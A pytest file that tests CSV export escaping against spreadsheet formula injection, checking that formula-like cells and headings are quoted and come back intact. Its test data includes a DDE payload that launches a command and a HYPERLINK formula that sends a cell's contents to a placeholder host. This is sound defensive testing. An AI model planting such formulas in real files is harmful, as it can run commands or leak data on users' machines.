"""What a spreadsheet would run stands in CSV as text, and comes back as it was."""

import csv

import numpy as np
import pandas as pd
import pytest

from auscult.storage.spreadsheets import from_csv, to_csv
from auscult.storage.tables import write_csv

FORMULAS = [
    "=1+1", '=HYPERLINK("http://x/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1",
    "''+a", "=", "-x.wav", "=é\n",
]  # fmt: skip
HARMLESS = ["wheeze", "-1.5", "+3", "-1e-9", "-", "+", "12%", "'tis", "", "a=b", "2024-01-01", "a\rb"]


def test_no_cell_or_heading_begins_a_formula_and_each_comes_back(tmp_path) -> None:
    table = pd.DataFrame({"=name": [*FORMULAS, *HARMLESS], "change": np.linspace(-1, 1, 24)})
    table["text"] = table["=name"].astype("str")
    write_csv(tmp_path / "t.csv", table)
    with (tmp_path / "t.csv").open(newline="") as file:
        rows = list(csv.reader(file))
    assert all(cell.startswith("'") for row in rows[1 : len(FORMULAS) + 1] for cell in (row[0], row[2]))
    assert [row[0] for row in rows[len(FORMULAS) + 1 :]] == HARMLESS
    assert rows[0] == ["'=name", "change", "text"] and rows[1][1] == "-1.0"
    again = from_csv(pd.read_csv(tmp_path / "t.csv", dtype={"'=name": str, "text": str}, keep_default_na=False))
    pd.testing.assert_frame_equal(again, table, check_dtype=False)


@pytest.mark.parametrize("values", [[None, "a"], [np.nan, "=b"], [1, "=c"]])
def test_what_is_missing_or_a_number_stays(values) -> None:
    expected = pd.DataFrame({"x": values}).to_csv(index=False, lineterminator="\n").replace("=", "'=")
    assert to_csv(pd.DataFrame({"x": values})) == expected
